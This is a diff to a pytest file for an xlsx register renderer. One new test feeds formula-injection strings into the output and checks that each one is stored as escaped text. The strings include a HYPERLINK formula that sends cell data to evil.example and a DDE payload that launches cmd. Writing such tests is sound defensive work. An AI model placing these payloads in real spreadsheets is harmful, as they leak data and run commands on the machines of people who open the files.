@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from datetime import date
+from datetime import date, datetime
 from pathlib import Path
 
 import pytest
@@ -135,7 +135,29 @@ def test_tabular_registers_as_xlsx(tmp_path, kind, header):
     assert values[0][0] == ("科技档案一览表" if kind == "一览表" else kind)
     assert values[2] == header
     if kind == "卷内目录":
-        assert values[-1] == ["5", None, "张伟", "竣工报告", "20240920", "13-15", None]
+        # numbers are numbers and dates are dates (Excel sums and sorts them); 页次 is a range
+        assert values[-1] == [5, None, "张伟", "竣工报告", datetime(2024, 9, 20), "13-15", None]
+        assert ws.cell(row=len(values), column=5).number_format == "yyyymmdd"
+    if kind == "归档文件目录":
+        assert [values[-1][0], values[-1][5], values[-1][7]] == [5, datetime(2024, 9, 20), 3]
+
+
+def test_xlsx_text_never_becomes_a_formula(tmp_path):
+    hostile = [
+        {**entry(1, '=HYPERLINK("http://evil.example/?x="&A1,"点击")', 2), "person": "==cmd|' /C calc'!A0"},
+        {**entry(2, "+1+1", 1), "doc_number": "@SUM(A1:A2)", "remarks": "-2+3"},
+    ]
+    project = {**PROJECT, "name": "=1+1"}
+    for kind in ("卷内目录", "归档文件目录"):
+        out = R.render_register(kind, project, hostile, tmp_path / f"{kind}.xlsx", settings=SETTINGS, xlsx=True)
+        ws = load_workbook(out).active
+        cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
+        assert not [c.coordinate for c in cells if c.data_type == "f"], "no cell may be a formula"
+        texts = [c.value for c in cells if isinstance(c.value, str)]
+        assert "'==cmd|' /C calc'!A0" in texts
+        assert """'=HYPERLINK("http://evil.example/?x="&A1,"点击")""" in texts
+        assert "'+1+1" in texts and "'-2+3" in texts
+    assert "'@SUM(A1:A2)" in texts  # the 文号 column of the 归档文件目录
 
 
 def test_volume_note_as_xlsx(tmp_path):
